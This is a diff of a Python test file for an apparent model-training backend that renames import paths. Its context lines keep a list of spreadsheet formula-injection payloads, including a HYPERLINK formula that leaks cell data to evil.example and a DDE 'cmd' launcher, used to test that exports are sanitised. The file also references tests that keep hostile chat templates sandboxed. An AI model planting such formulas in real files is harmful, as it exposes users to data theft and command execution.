@@ -11,8 +11,8 @@ from pathlib import Path
 
 import pytest
 
-from backend.compare_export import export_compare, summary_path_for
-from backend.compare_scoring import CompareRow, summarize
+from backend.compare.export import export_compare, summary_path_for
+from backend.compare.scoring import CompareRow, summarize
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\t=1+1", "\r=1+1"]
@@ -84,10 +84,10 @@ HOSTILE_TEMPLATES = [
 
 @pytest.mark.parametrize("template", HOSTILE_TEMPLATES)
 def test_hostile_chat_template_stays_in_the_sandbox_with_a_clear_message(template, tiny_model_dir, tmp_path):
-    from backend.model_source import ModelSourceError
-    from backend.prompt_rendering import prompt_token_ids
-    from backend.run_config import default_config
-    from backend.trainer_builders import build_tokenizer
+    from backend.models.source import ModelSourceError
+    from backend.data.prompt_rendering import prompt_token_ids
+    from backend.runs.config import default_config
+    from backend.training.trainer_builders import build_tokenizer
 
     marker = tmp_path / "template-ran"
     model = tmp_path / "templated"
@@ -110,8 +110,8 @@ def test_hostile_chat_template_stays_in_the_sandbox_with_a_clear_message(templat
 
 
 def test_a_plain_model_template_still_renders(tiny_model_dir):
-    from backend.run_config import default_config
-    from backend.trainer_builders import build_tokenizer
+    from backend.runs.config import default_config
+    from backend.training.trainer_builders import build_tokenizer
 
     tokenizer = build_tokenizer(str(tiny_model_dir), default_config("sft"))
     assert "Hello" in tokenizer.apply_chat_template([{"role": "user", "content": "Hello"}], tokenize=False)
